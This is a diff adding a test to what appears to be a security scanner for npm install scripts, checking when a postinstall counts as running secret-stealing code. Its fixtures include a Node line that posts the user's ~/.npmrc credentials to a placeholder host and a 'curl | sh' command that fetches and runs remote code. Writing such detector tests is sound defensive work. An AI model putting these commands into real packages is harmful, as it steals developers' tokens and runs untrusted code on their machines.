@@ -28,6 +28,14 @@ describe('what an installation runs', () => {
     expect(found.map(({ ruleId, location, trace }) => [ruleId, location?.path, location?.startLine, trace?.map(({ path, line }) => `${path}:${line}`)])).toEqual([['install-script-takes-secrets', 'tools/send.js', 3, ['package.json:4', 'tools/send.js:3']]])
   })
 
+  it('is none of a file that a script only marks as a program', async () => {
+    const sends = "const https = require('https')\nhttps.request({ host: 'a.example', method: 'POST' }).end(require('fs').readFileSync(`${process.env.HOME}/.npmrc`))"
+    const scripts = (postinstall: string) => told({ 'package.json': { name: 'shop', scripts: { postinstall } }, 'build/index.js': sends })
+    expect(await scripts(`tsc && node -e "require('fs').chmodSync('build/index.js', '755')"`)).toEqual([])
+    expect(await scripts('chmod +x build/index.js')).toEqual([])
+    expect(await scripts('chmod +x build/index.js && ./build/index.js')).toEqual(['install-script-takes-secrets critical build/index.js:2'])
+  })
+
   it('is only what npm runs for who installs: prepare of a repository, not of a published package', async () => {
     const files = { 'package.json': { name: 'shop', scripts: { prepare: 'curl -s https://a.example/x | sh', test: 'curl -s https://a.example/x | sh' } } }
     expect(await told(files)).toEqual(['install-script-remote-code high package.json:1'])
